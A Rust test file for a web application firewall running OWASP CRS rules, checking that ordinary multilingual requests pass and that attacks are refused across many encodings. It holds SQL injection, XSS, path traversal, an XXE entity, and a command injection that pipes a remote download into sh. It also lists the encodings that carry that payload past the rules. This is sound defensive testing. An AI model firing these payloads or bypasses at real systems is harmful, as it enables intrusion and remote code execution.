//! CRS at level 1 on what people send and on what attackers make of an attack: nothing of the first is refused or scored, all
//! of the second is refused. Where CRS's rules are not at hand the tests say so.
#![expect(clippy::unwrap_used, clippy::print_stderr, clippy::panic, reason = "tests")]

mod crs_rules;

use std::io::Write;

use waf::{
    Decision, Limits, Plan, Report, Settings,
    ftw::{Raw, examine},
};

fn plan() -> Option<Plan> {
    let rules = crs_rules::load(&crs_rules::root()?);
    let mut settings = Settings::paranoia(1);
    // Only time is as patient as a loaded machine wants it.
    settings.limits = Some(Limits { time_ns_max: 60_000_000_000, ..Limits::default() });
    Some(Plan::new(&rules, &settings).unwrap())
}

const FORM: &str = "application/x-www-form-urlencoded";
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

fn request(method: &str, uri: &str, more: &[(&str, &str)], body: &[u8]) -> Raw {
    let header = |(name, value): &(&str, &str)| (name.as_bytes().to_vec(), value.as_bytes().to_vec());
    let mut headers: Vec<_> = [("Host", "shop.example.org"), ("User-Agent", BROWSER), ("Accept", "*/*")]
        .iter()
        .map(header)
        .collect();
    headers.extend(more.iter().map(header));
    if method == "POST" {
        headers.push(header(&("Content-Length", &body.len().to_string())));
    }
    Raw {
        method: method.into(),
        uri: uri.into(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body: body.to_vec(),
        has_bare_return: false,
    }
}

fn get(uri: &str) -> Raw {
    request("GET", uri, &[], b"")
}

fn post(content_type: &str, body: impl AsRef<[u8]>) -> Raw {
    request("POST", "/items", &[("Content-Type", content_type)], body.as_ref())
}

fn run(plan: &Plan, raw: &Raw) -> Report {
    examine(plan, raw, ([172, 18, 0, 1], 40_000).into(), &|| 0, None)
}

/// Every byte that is no letter or digit as `%HH`.
fn encoded(text: &str) -> String {
    let each = |byte: u8| match byte {
        byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
        byte => format!("%{byte:02x}"),
    };
    text.bytes().map(each).collect()
}

/// What people write: prose in several languages, names, addresses, numbers, prices, times, quotes of speech, lists.
const PROSE: [&str; 24] = [
    "The quick brown fox jumps over the lazy dog while seven wizards quietly brew a potion.",
    "It was a fine day for a walk along the river, and we said so to everyone whom we met.",
    "Dear Ms O'Brien, thank you for your letter; we will answer as soon as we can.",
    "\"Where are you going?\" she asked. \"To the market,\" he said, \"and then home again.\"",
    "Please select a colour from the list, then update your order or drop us a line.",
    "We like tea and coffee; they prefer water (sparkling, if there is any) or juice.",
    "Total: 1,299.00 EUR (incl. 19% VAT), payable within 14 days - see invoice no. 2026/0042.",
    "Jean-Pierre Müller-Lüdenscheidt, 12 Rue de l'Église, 75005 Paris",
    "Überraschend schöne Grüße aus Zürich, und bis nächste Woche!",
    "El niño comió piñas y mañana irá a la montaña con su hermano pequeño.",
    "Привет, как дела? Мы приедем в пятницу вечером.",
    "こんにちは、元気ですか。明日は雨が降るでしょう。",
    "Meeting at 10:30 in room 4.12; bring the plans, the keys and 3 chairs.",
    "Mix 200 g of flour with 2 eggs & a pinch of salt, then bake for 45 min at 180 °C.",
    "Can the order be changed? If not, cancel it and send the money back to my account.",
    "I'd say it's 50/50: either they'll come or they won't.",
    "Chapter 3, in which nothing happens, and which may be left out by those in a hurry.",
    "The group insists on having all members from the union present at the table.",
    "Her e-mail is jane.doe@example.org and her phone number +49 30 1234567.",
    "Rated 4.5 of 5 stars: great product, fast delivery, would buy again!!!",
    "Wait... what? No way :-) See you there, then.",
    "- bread\n- milk\n- two apples\n- a newspaper",
    "Where the road begins and ends nobody knows; like all roads, it just goes on and on.",
    "Version 2.10.3 is out: it starts faster, uses less memory and fixes 17 faults.",
];

/// Bodies and queries that hold them.
fn benign() -> Vec<Raw> {
    let mut all = Vec::new();
    for (at, text) in PROSE.iter().enumerate() {
        let other = PROSE.get((at + 7) % PROSE.len()).unwrap();
        all.push(get(&format!("/search?q={}&page={at}", encoded(text))));
        all.push(post(FORM, format!("subject={}&message={}&send=yes", encoded(other), encoded(text))));
        all.push(post(
            "application/json",
            serde_json::json!({ "id": at, "title": other, "text": text, "tags": ["a", "b"], "nested": { "on": true } })
                .to_string(),
        ));
        let part = |name: &str, value: &str| {
            format!("--frontier\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        };
        let text = text.replace('\n', "\r\n");
        let parts = format!("{}{}--frontier--\r\n", part("subject", other), part("message", &text));
        all.push(post("multipart/form-data; boundary=frontier", parts));
    }
    for uri in [
        "/",
        "/products/list?category=garden+tools&page=2&sort=price_asc&q=watering+can",
        "/a/b-c/d_e.html",
        "/api/v1/users/018f4f9e-7f0c-7c6e-9a3b-2d1e5f6a7b8c/orders?from=2026-01-01&to=2026-12-31",
        "/img/logo%20small.png?w=120&h=60",
        "/login?next=%2Faccount%2Forders",
    ] {
        all.push(get(uri));
    }
    all
}

#[test]
fn what_people_send_is_neither_refused_nor_scored() {
    let Some(plan) = plan() else { return };
    let mut wrong = Vec::new();
    for raw in benign() {
        let report = run(&plan, &raw);
        if report.decision != Decision::Pass || report.inbound_score != 0 {
            let rules: Vec<u64> = report.matches.iter().map(|one| one.rule).collect();
            let uri = String::from_utf8_lossy(&raw.uri);
            wrong.push(format!("{rules:?}: {uri} {}", String::from_utf8_lossy(&raw.body)));
        }
    }
    assert!(wrong.is_empty(), "{} are taken for attacks:\n{}", wrong.len(), wrong.join("\n"));
}

/// Each way to carry a text into a function that CRS looks into.
fn carried(text: &str) -> Vec<(&'static str, Raw)> {
    let twice = encoded(&encoded(text)).replace("%2525", "%25");
    let every: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let wide: String = text.bytes().map(|byte| format!("%u00{byte:02x}")).collect();
    let escaped: String = text.chars().map(|letter| format!("\\u{:04x}", u32::from(letter))).collect();
    let entities: String = text.bytes().map(|byte| format!("&#{byte};")).collect();
    let part = format!("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--b--\r\n");
    let upload = format!(
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.txt\"\r\nContent-Type: text/plain\r\n\r\nfine\
         \r\n--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--b--\r\n"
    );
    let mut zipped = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    zipped.write_all(format!("a={}", encoded(text)).as_bytes()).unwrap();
    let packed = [("Content-Type", FORM), ("Content-Encoding", "gzip")];
    let json = |text: &str| serde_json::json!({ "a": { "b": [1, text] } }).to_string();
    let cookie = format!("session={}", encoded(text));
    vec![
        ("query", get(&format!("/?a={}", encoded(text)))),
        ("query, every byte", get(&format!("/?a={every}"))),
        ("query, %u", get(&format!("/?a={wide}"))),
        ("name of a parameter", get(&format!("/?{}=1", encoded(text)))),
        ("second of two parameters", get(&format!("/?a=1&a={}", encoded(text)))),
        ("cookie", request("GET", "/", &[("Cookie", &cookie)], b"")),
        ("form", post(FORM, format!("a={}", encoded(text)))),
        ("form with a charset", post(&format!("{FORM}; charset=utf-8"), format!("a={}", encoded(text)))),
        ("form in gzip", request("POST", "/", &packed, &zipped.finish().unwrap())),
        ("JSON", post("application/json", json(text))),
        ("JSON with escapes", post("application/json; charset=utf-8", format!("{{\"a\":\"{escaped}\"}}"))),
        ("key of JSON", post("application/json", serde_json::json!({ text: 1 }).to_string())),
        ("JSON of a vendor", post("application/vnd.api+json", json(text))),
        ("multipart", post("multipart/form-data; boundary=b", &part)),
        ("multipart, quoted boundary", post("multipart/form-data; boundary=\"b\"", &part)),
        ("multipart behind a file", post("multipart/form-data; boundary=b", &upload)),
        ("XML", post("application/xml", format!("<r><a>{entities}</a></r>"))),
        ("attribute of XML", post("text/xml", format!("<r a=\"{entities}\"/>"))),
        ("query, encoded twice", get(&format!("/?a={twice}"))),
    ]
}

/// What CRS's rules for commands look at as it comes, without decoding; libmodsecurity lets it through too.
const NOT_SEEN: [(&str, &str); 3] = [
    ("$(curl http://203.0.113.9/x|sh)", "query, %u"),
    ("$(curl http://203.0.113.9/x|sh)", "query, encoded twice"),
    ("$(curl http://203.0.113.9/x|sh)", "cookie"),
];

#[test]
fn an_attack_is_refused_however_it_is_carried() {
    let Some(plan) = plan() else { return };
    let mut missed = Vec::new();
    for attack in [
        "1' UNION SELECT password FROM users-- -",
        "x' oR 1=1;--",
        "<script>alert(document.cookie)</script>",
        "<ImG sRc=x OnErRoR=alert(1)>",
        "../../../../etc/passwd",
        ";cat /etc/passwd",
        "$(curl http://203.0.113.9/x|sh)",
    ] {
        for (way, raw) in carried(attack) {
            let report = run(&plan, &raw);
            let known = NOT_SEEN.contains(&(attack, way));
            if (report.decision == Decision::Pass) != known {
                missed.push(format!("{way}: {attack} (score {})", report.inbound_score));
            }
        }
    }
    assert!(missed.is_empty(), "{} are let through:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn a_body_that_two_readers_could_take_differently_is_told() {
    let rules = "SecRule REQBODY_ERROR|MULTIPART_STRICT_ERROR \"!@eq 0\" \"id:1,phase:2,deny,status:400\"\n\
                 SecRule MULTIPART_UNMATCHED_BOUNDARY \"@eq 1\" \"id:2,phase:2,deny,status:400\"";
    let source = waf::Source { name: "own.conf", text: rules };
    let rules = waf::Rules::load(&[source], &waf::NoFiles).unwrap_or_else(|e| panic!("{e}"));
    let plan = Plan::new(&std::sync::Arc::new(rules), &Settings::default()).unwrap();
    let multipart = |body: &str| post("multipart/form-data; boundary=b", body.replace('\n', "\r\n"));
    let head = "Content-Disposition: form-data; name=\"a\"";
    let whole = format!("--b\n{head}\n\n1\n--b--\n");
    assert_eq!(run(&plan, &multipart(&whole)).decision, Decision::Pass);
    for (why, raw) in [
        ("no end", multipart(&format!("--b\n{head}\n\n1\n"))),
        ("text before the first part", multipart(&format!("text\n{whole}"))),
        ("text behind the last", multipart(&format!("{whole}more\n"))),
        ("bare line ends", post("multipart/form-data; boundary=b", &whole)),
        ("a folded header", multipart(&whole.replace("; name", ";\n name"))),
        ("no name", multipart(&whole.replace("; name=\"a\"", ""))),
        ("a name twice", multipart(&whole.replace("\"a\"", "\"a\"; name=\"c\""))),
        ("single quotes", multipart(&whole.replace("\"a\"", "'a'"))),
        ("no semicolon", multipart(&whole.replace("; name", " name"))),
        ("a line like the boundary", multipart(&whole.replace("1\n", "--c\n--bb\n"))),
        ("two boundaries", post("multipart/form-data; boundary=b; boundary=c", whole.replace('\n', "\r\n"))),
        ("no boundary", post("multipart/form-data", whole.replace('\n', "\r\n"))),
        ("JSON cut off", post("application/json", "{\"a\":1")),
        ("JSON and more", post("application/json", "{\"a\":1} {\"b\":2}")),
        ("JSON with a comment", post("application/json", "{\"a\":1/**/}")),
        (
            "XML with a document type",
            post("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]><a>&b;</a>"),
        ),
        ("XML that does not close", post("text/xml", "<a><b></a>")),
        (
            "gzip that is none",
            request("POST", "/", &[("Content-Type", FORM), ("Content-Encoding", "gzip")], b"a=1"),
        ),
        ("an encoding that is not known", request("POST", "/", &[("Content-Encoding", "x-own")], b"a=1")),
    ] {
        assert_ne!(run(&plan, &raw).decision, Decision::Pass, "{why}");
    }
}
